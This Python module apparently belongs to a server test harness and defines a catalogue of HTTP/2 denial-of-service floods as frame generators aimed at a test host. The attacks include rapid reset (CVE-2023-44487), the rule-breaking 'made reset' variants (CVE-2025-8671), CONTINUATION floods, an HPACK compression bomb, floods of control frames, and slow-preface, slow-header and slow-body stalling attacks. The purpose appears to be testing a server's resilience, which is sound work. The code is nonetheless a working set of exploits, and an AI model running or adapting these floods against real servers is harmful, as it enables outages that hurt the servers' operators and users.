"""Floods of HTTP/2: what costs a server more to take than a client to send, or holds it for long.

Each is a generator of what goes out next, and how long to wait before that. It is asked for more
for as long as the server takes it, and knows no answers: what the server says is told by
`h2_flooding`.
"""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass

from hpack import Encoder

from harness import frames

BATCH = 100  # frames that go out in one piece
SLOW = 0.5
REQUEST = [
    (":method", "POST"),
    (":scheme", "http"),
    (":authority", "spvn.test"),
]
HELLO, SINK, ENDLESS = "/", "/sink", "/endless"
BIG_FIELD = 4000
BOMB = 16_000


@dataclass(frozen=True)
class Piece:
    """So many frames; the next goes out no sooner than after a pause."""

    data: bytes
    frames: int
    pause: float = 0.0


Pieces = Iterator[Piece]


@dataclass(frozen=True)
class Flood:
    name: str
    pieces: Callable[[], Pieces]
    acknowledge: bool = True  # the server's SETTINGS
    settings: tuple[tuple[int, int], ...] = ()
    greet: bool = True


def head(stream: int, path: str = SINK, *more: tuple[str, str], end: bool = False) -> bytes:
    """A request's head that uses no dynamic table, so that any may be left out."""
    return frames.headers(stream, block([*REQUEST, (":path", path), *more]), end=end)


def block(fields: Iterable[tuple[str, str]]) -> bytes:
    return Encoder().encode([(name, value, True) for name, value in fields])


def literal(name: bytes, value: bytes, first: int = 0x00) -> bytes:
    """A field that is not indexed, or is with 0x40; lengths below 127 are one byte."""
    return bytes([first]) + _string(name) + _string(value)


def _string(text: bytes) -> bytes:
    if len(text) < 127:
        return bytes([len(text)]) + text
    rest, length = len(text) - 127, bytearray([127])
    while rest >= 128:
        length.append(rest % 128 | 128)
        rest //= 128
    return bytes(length) + bytes([rest]) + text


def odd() -> Iterator[int]:
    return itertools.count(1, 2)


def batches(each: Iterator[bytes], weight: int = 1, count: int = BATCH) -> Pieces:
    while data := b"".join(itertools.islice(each, count)):
        yield Piece(data, count * weight)


def again(data: bytes, count: int = BATCH, weight: int = 1) -> Pieces:
    """The same without end: a frame, or as many as its weight."""
    piece = Piece(data * count, count * weight)
    while True:
        yield piece


# ---------------------------------------------------------------- resets


def rapid_reset() -> Pieces:
    """CVE-2023-44487."""
    return batches((head(each, HELLO, end=True) + frames.reset(each) for each in odd()), 2)


def made_reset(spoil: Callable[[int], bytes]) -> Callable[[], Pieces]:
    """CVE-2025-8671: the client breaks a rule so that the server resets the stream."""
    return lambda: batches((head(each) + spoil(each) for each in odd()), 2)


def no_increment(stream: int) -> bytes:
    return frames.window_update(stream, 0)


def window_overflow(stream: int) -> bytes:
    return frames.window_update(stream, frames.LARGEST_WINDOW)


def short_priority(stream: int) -> bytes:
    return frames.frame(frames.PRIORITY, stream=stream, payload=b"1234")


def own_dependency(stream: int) -> bytes:
    return frames.priority(stream, on=stream)


def data_after_end(stream: int) -> bytes:
    last = frames.frame(frames.DATA, frames.END_STREAM, stream)
    return last + frames.frame(frames.DATA, 0, stream, b"late")


def second_head(stream: int) -> bytes:
    """Trailers that do not end the stream."""
    return frames.headers(stream, block([("x-trailer", "1")]), end=False)


def broken_heads() -> Pieces:
    more = ("connection", "close")
    return batches(head(each, HELLO, more, end=True) for each in odd())


def longer_than_promised() -> Pieces:
    promised = ("content-length", "1")
    data = b"more than that"
    return batches(
        (
            head(each, SINK, promised) + frames.frame(frames.DATA, frames.END_STREAM, each, data)
            for each in odd()
        ),
        2,
    )


# ---------------------------------------------------------------- heads


def open_head(stream: int, end: bool = True) -> bytes:
    """A HEADERS frame that says that more is to come."""
    flags = frames.END_STREAM if end else 0
    return frames.frame(frames.HEADERS, flags, stream, block([*REQUEST, (":path", HELLO)]))


def full_continuations() -> Pieces:
    yield Piece(open_head(1), 1)
    payload = literal(b"x-field", b"v" * 100) * 140
    yield from again(frames.frame(frames.CONTINUATION, 0, 1, payload), 4)


def empty_continuations() -> Pieces:
    yield Piece(open_head(1), 1)
    yield from again(frames.frame(frames.CONTINUATION, 0, 1))


def hpack_bomb() -> Pieces:
    """A field of 4,000 bytes goes into the table, and each byte after it stands for it."""
    for stream in odd():
        data = block([*REQUEST, (":path", HELLO)])
        if stream == 1:
            data += literal(b"x-bomb", b"v" * BIG_FIELD, 0x40)
        data += bytes([0x80 | 62]) * BOMB
        yield Piece(frames.headers(stream, data, end=True), 2)


def heads_with(fields: bytes) -> Pieces:
    """Heads that have these fields besides."""
    data = block([*REQUEST, (":path", HELLO)]) + fields
    count = len(data) // frames.FRAME_SIZE + 1
    for stream in odd():
        yield Piece(frames.headers(stream, data, end=True), count)


def many_fields() -> Pieces:
    return heads_with(b"".join(literal(b"x%d" % number, b"") for number in range(8000)))


def large_head() -> Pieces:
    """A megabyte each."""
    return heads_with(literal(b"x-large", b"v" * 1000) * 1000)


def slow_head() -> Pieces:
    yield Piece(open_head(1), 1)
    field = literal(b"x", b"1")
    while True:
        yield Piece(frames.frame(frames.CONTINUATION, 0, 1, field), 1, SLOW)


# ---------------------------------------------------------------- frames that say little


def table_flips() -> Pieces:
    small = frames.settings({frames.HEADER_TABLE_SIZE: 0})
    return again(small + frames.settings({frames.HEADER_TABLE_SIZE: 4096}), weight=2)


def window_flips() -> Pieces:
    """With streams open, each of which has to be thought of."""
    yield Piece(b"".join(head(stream) for stream in range(1, 181, 2)), 90)
    small = frames.settings({frames.INITIAL_WINDOW_SIZE: 0})
    yield from again(small + frames.settings({frames.INITIAL_WINDOW_SIZE: 65_535}), weight=2)


def empty_data() -> Pieces:
    yield Piece(head(1), 1)
    yield from again(frames.frame(frames.DATA, 0, 1))


def padded_data() -> Pieces:
    """As much as the connection's credit allows, and a little more for each that is given back."""
    yield Piece(head(1), 1)
    yield Piece(frames.padded(1, b"", 255) * 250, 250)
    yield from again(frames.padded(1, b"", 0), 100)


def priorities() -> Pieces:
    each = (frames.priority(1 + 2 * (number % 1000)) for number in itertools.count())
    return batches(each)


def priority_updates() -> Pieces:
    each = (frames.priority_update(stream, "u=1") for stream in odd())
    return batches(each)


def dribble() -> Pieces:
    yield Piece(head(1, ENDLESS, end=True), 1)
    yield from again(frames.window_update(1, 1))


def connection_dribble() -> Pieces:
    return again(frames.window_update(0, 1))


def windows_of_closed() -> Pieces:
    yield Piece(head(1, HELLO, end=True), 1)
    yield Piece(b"", 0, 0.5)
    yield from again(frames.window_update(1, 1))


# ---------------------------------------------------------------- what holds, and waits


def over_the_limit() -> Pieces:
    return batches(head(each) for each in odd())


def quiet() -> Pieces:
    while True:
        yield Piece(b"", 0, SLOW)


def idle() -> Pieces:
    yield Piece(head(1, HELLO, end=True), 1)
    yield from quiet()


def slow_preface() -> Pieces:
    for at in range(len(frames.PREFACE)):
        yield Piece(frames.PREFACE[at : at + 1], 0, SLOW)


def half_preface() -> Pieces:
    yield Piece(frames.PREFACE[:14], 0)
    yield from quiet()


def slow_body() -> Pieces:
    yield Piece(head(1), 1)
    while True:
        yield Piece(frames.frame(frames.DATA, 0, 1, b"x"), 1, SLOW)


def stalled_windows() -> Pieces:
    """A hundred responses that nobody gives credit for."""
    yield Piece(b"".join(head(each, ENDLESS, end=True) for each in range(1, 201, 2)), 100)
    yield from quiet()


def requests_without_acknowledgement() -> Pieces:
    for stream in odd():
        yield Piece(head(stream, HELLO, end=True), 1, SLOW)


NO_WINDOW = ((frames.INITIAL_WINDOW_SIZE, 0),)
FLOODS = (
    Flood("none", quiet),
    Flood("rapid reset", rapid_reset),
    Flood("made reset: no increment", made_reset(no_increment)),
    Flood("made reset: window overflow", made_reset(window_overflow)),
    Flood("made reset: short PRIORITY", made_reset(short_priority)),
    Flood("made reset: own dependency", made_reset(own_dependency)),
    Flood("made reset: DATA after the end", made_reset(data_after_end)),
    Flood("made reset: second head", made_reset(second_head)),
    Flood("made reset: broken heads", broken_heads),
    Flood("made reset: longer than promised", longer_than_promised),
    Flood("CONTINUATION, full", full_continuations),
    Flood("CONTINUATION, empty", empty_continuations),
    Flood("PING", lambda: again(frames.ping())),
    Flood("SETTINGS", lambda: again(frames.settings())),
    Flood("SETTINGS, table size flips", table_flips),
    Flood("SETTINGS, window flips", window_flips),
    Flood("DATA, empty", empty_data),
    Flood("DATA, padded", padded_data),
    Flood("PRIORITY", priorities),
    Flood("PRIORITY_UPDATE", priority_updates),
    Flood("WINDOW_UPDATE, dribble", dribble, settings=NO_WINDOW),
    Flood("WINDOW_UPDATE of the connection", connection_dribble),
    Flood("WINDOW_UPDATE of a closed stream", windows_of_closed),
    Flood("unknown frames", lambda: again(frames.frame(0xFA, payload=b"x" * 8))),
    Flood("HPACK bomb", hpack_bomb),
    Flood("8,000 fields", many_fields),
    Flood("head of 1 MB", large_head),
    Flood("streams over the limit", over_the_limit),
    Flood("SETTINGS never acknowledged", requests_without_acknowledgement, acknowledge=False),
    Flood("slow preface", slow_preface, greet=False),
    Flood("half a preface", half_preface, greet=False),
    Flood("slow head", slow_head),
    Flood("slow body", slow_body),
    Flood("idle from the start", quiet),
    Flood("idle after a request", idle),
    Flood("stalled windows", stalled_windows),
)
